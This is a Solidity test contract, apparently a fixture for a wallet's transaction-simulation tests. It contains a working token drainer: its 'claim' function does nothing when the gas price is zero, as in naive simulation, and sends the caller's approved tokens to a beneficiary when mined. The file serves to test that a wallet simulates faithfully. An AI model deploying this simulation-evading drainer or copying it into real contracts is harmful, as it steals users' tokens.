// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/**
 * @dev Test-only contract for the wallet's browser tests: a hostile "claim" that tells a simulation apart
 * from a real transaction by its gas price. A wallet that simulates without fee fields (so `tx.gasprice`
 * is 0 inside `eth_simulateV1`) sees a harmless call; mined, the same call takes everything the caller
 * approved to it (up to the caller's balance) and sends it to the beneficiary.
 *
 * The wallet must simulate exactly what it will sign (fees, a realistic base fee, validation on) so the
 * simulation shows the drain.
 *
 * WARNING: never deploy outside tests; it steals approved tokens by design.
 */
contract GasPriceDrainer {
    using SafeERC20 for IERC20;

    /// @dev Who receives what the claim takes.
    address private immutable _beneficiary;

    /// @dev Emitted when a call saw a zero gas price and behaved (what a naive simulation shows).
    event DrainerBehaved(address indexed caller);

    constructor(address beneficiary) {
        _beneficiary = beneficiary;
    }

    /**
     * @notice Looks like a free claim. With `tx.gasprice == 0` it only emits {DrainerBehaved}; otherwise it
     * transfers the caller's whole approved balance of `token` (allowance capped by balance) to the
     * beneficiary.
     */
    function claim(IERC20 token) external {
        if (tx.gasprice == 0) {
            emit DrainerBehaved(msg.sender);
            return;
        }
        uint256 allowed = token.allowance(msg.sender, address(this));
        uint256 balance = token.balanceOf(msg.sender);
        uint256 amount = allowed < balance ? allowed : balance;
        if (amount > 0) token.safeTransferFrom(msg.sender, _beneficiary, amount);
    }
}
